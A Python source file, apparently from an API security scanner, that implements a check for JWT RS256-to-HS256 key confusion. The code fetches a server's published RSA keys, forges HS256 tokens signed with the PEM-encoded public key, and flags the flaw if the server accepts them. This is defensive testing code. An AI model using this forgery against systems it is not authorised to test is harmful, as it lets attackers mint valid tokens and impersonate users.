"""SCN-016 jwt-key-confusion."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from apiward.core import Confidence, OwaspApi2023, Severity
from apiward.scan._context import ScanContext
from apiward.scan._jwt import Jwt, jwk_to_pem_variants
from apiward.scan._request import RequestSpec
from apiward.scan.checks._base import check
from apiward.scan.checks._jwtcheck import run_jwt_attack
from apiward.scan.checks._jwtprobe import JwtProbe

_JWKS_PATHS = ("/.well-known/jwks.json", "/jwks.json", "/.well-known/openid-configuration", "/oauth/jwks")


async def published_keys(ctx: ScanContext) -> list[Mapping[str, Any]]:
    """RSA public JWKs the target publishes (JWKS document or OpenID configuration, in scope only)."""
    for path in _JWKS_PATHS:
        ex = await ctx.send(RequestSpec(method="GET", path=path), None)
        data = ex.data
        if ex.ok and isinstance(data, Mapping) and isinstance(data.get("jwks_uri"), str):
            if not ctx.client.in_scope(data["jwks_uri"]):
                continue
            ex = await ctx.send(RequestSpec(method="GET", path=data["jwks_uri"]), None)
            data = ex.data
        if ex.ok and isinstance(data, Mapping) and isinstance(data.get("keys"), list):
            return [k for k in data["keys"] if isinstance(k, Mapping) and k.get("kty") == "RSA"]
    return []


async def _forge(probe: JwtProbe) -> list[tuple[str, dict[str, Any]]]:
    out: list[tuple[str, dict[str, Any]]] = []
    for jwk in await published_keys(probe.ctx):
        header = {k: v for k, v in probe.token.header.items() if k != "alg"} | {"alg": "HS256"}
        if jwk.get("kid"):
            header["kid"] = jwk["kid"]
        for index, pem in enumerate(jwk_to_pem_variants(jwk)):
            out.append((Jwt.hs(header, probe.token.claims, pem), {"kid": jwk.get("kid"), "pem_variant": index}))
    return out


@check(
    id="SCN-016",
    name="jwt-key-confusion",
    title="JWT RS256→HS256 key confusion accepted",
    owasp=OwaspApi2023.API2,
    cwe=347,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    remediation="Bind each key to one algorithm; never verify HMAC tokens with an RSA public key.",
    category="jwt",
)
async def jwt_key_confusion(ctx: ScanContext) -> None:
    """The server verifies an HS256 token using its own published RSA public key as the HMAC secret.

    The scanner fetches the target's JWKS (``/.well-known/jwks.json`` or the OpenID configuration's
    ``jwks_uri``), turns each RSA key into its PEM forms and signs the user's claims with HS256 using the
    PEM bytes as the secret. Acceptance means anyone holding the public key can mint tokens.
    """
    await run_jwt_attack(
        ctx,
        jwt_key_confusion.meta,
        _forge,
        "an HS256 token signed with the published RSA key was accepted",
        specific=True,
    )
